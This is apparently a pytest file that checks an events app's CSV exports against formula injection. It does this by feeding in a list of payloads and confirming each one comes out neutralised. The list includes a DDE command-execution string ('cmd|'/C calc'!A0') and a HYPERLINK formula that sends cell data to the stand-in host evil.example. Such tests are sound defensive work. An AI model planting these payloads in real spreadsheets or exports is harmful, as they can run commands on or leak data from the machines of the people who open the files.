"""CSV: no cell is a formula, in any export; and no cell breaks out of its row."""

import csv
import io
import re
from datetime import timedelta
from typing import Any

import pytest
from litestar.routes import HTTPRoute
from sqlmodel import col, update

import app.core.sheets
from app.bookings import actions as bookings
from app.core import clock
from app.core.db import writing
from app.core.sheets import csv_file
from app.events.models import TicketType
from main import litestar_app
from tests import world
from tests.town import Town

SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
BODIES = ("1+1", "cmd|'/C calc'!A0", 'HYPERLINK("//evil.example?"&A1,"x")')
PAYLOADS = [sign + body for sign in SIGNS for body in BODIES] + [
    " =1+1",
    "\t\t=1",
    "\x00=1",
    "\u200b=1",
    "\ufeff=1",
    "\u00a0=1",
    '"=1',
    "'=1",
    ";=1",
    ",=1",
    "a\n=1+1",
    "a\r=1+1",
    "a,=1+1",
    'a",=1+1,"b',
]


def cells(file: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file.decode("utf-8-sig"), newline="")))


def formulas(file: bytes) -> list[str]:
    """Cells that a spreadsheet would run: those that begin with a sign, also behind what it takes for blank."""
    begins = re.compile(r"[\s\0\u200b\ufeff]*[=+\-@＝＋－＠]|[\t\r\n]")
    return [cell for row in cells(file) for cell in row if begins.match(cell)]


@pytest.mark.asvs("V1.3.3")
def test_no_cell_is_a_formula() -> None:
    assert len(PAYLOADS) >= 40
    file = csv_file([("before", payload, "after") for payload in PAYLOADS])
    assert formulas(file) == []
    assert [len(row) for row in cells(file)] == [3] * len(PAYLOADS)
    assert [row[1].removeprefix("'") for row in cells(file)] == [payload.removeprefix("'") for payload in PAYLOADS]


def test_every_cell_is_quoted_so_that_no_separator_opens_another() -> None:
    """In half of Europe a spreadsheet takes a semicolon for the end of a cell."""
    line = csv_file([("a;=1+1", "b,=1", 'c"=1', "d")]).decode("utf-8-sig")
    assert line == '"a;=1+1","b,=1","c""=1","d"\r\n'


def test_without_the_mark_they_would_be(monkeypatch: pytest.MonkeyPatch) -> None:
    """The negative control."""
    monkeypatch.setattr(app.core.sheets, "_plain", str)
    assert len(formulas(csv_file([(payload,) for payload in PAYLOADS]))) > 30


OF_AN_EVENT = ("checkins", "codes", "waiting-list")
# Large ones are jobs, so asking for them is an act.
POSTED = ("/admin/activity/file", "/admin/payments/file")


def exports() -> set[str]:
    """Every address that gives a table."""
    return {route.path for route in litestar_app().routes if isinstance(route, HTTPRoute) and route.path.endswith(".csv")}


async def test_the_exports_hold_no_formula(shop: Any, small_town: Town) -> None:
    early = small_town.things["early sales"].partition("/")[0]
    addresses = {
        "/manager/events/{slug:str}/sales/{code:str}/codes.csv": f"/manager/events/{small_town.things['early sales']}/codes.csv",
        **{f"/manager/events/{{slug:str}}/{name}.csv": f"/manager/events/{early}/{name}.csv" for name in OF_AN_EVENT},
    }
    assert exports() == set(addresses)
    async with small_town.browser(shop, "dora") as doras:
        for payload in PAYLOADS:
            async with writing() as tx:
                kinds = update(TicketType).where(col(TicketType.code) == small_town.things["early type"])
                await tx.exec(kinds.values(name=payload.replace("\0", "")[:60]))
            for address in (*addresses.values(), *POSTED):
                answer = await (doras.post(address) if address in POSTED else doras.get(address))
                assert answer.status_code == 200, address
                assert answer.headers["content-type"].startswith("text/csv")
                assert "attachment" in answer.headers["content-disposition"]
                assert formulas(answer.content) == [], address


async def test_the_codes_themselves_stand_in_the_file(shop: Any, small_town: Town) -> None:
    async with writing() as tx:
        event = await world.event(tx, manager=await world.alice(tx), title="Codes Only")
        kind = await world.only_type(tx, event)
        kind.presale_from, kind.sale_from = clock.now() - timedelta(hours=1), clock.now() + timedelta(days=7)
        await bookings.make_codes(tx, kind, 3, by=event.manager_id, now=clock.now())
        kind.name = "=1+1"
    async with small_town.browser(shop, "alice") as alices:
        rows = cells((await alices.get(f"/manager/events/{event.slug}/sales/{kind.code}/codes.csv")).content)
    assert [len(row) for row in rows] == [4] * 4
    assert {row[1] for row in rows[1:]} == {"'=1+1"}
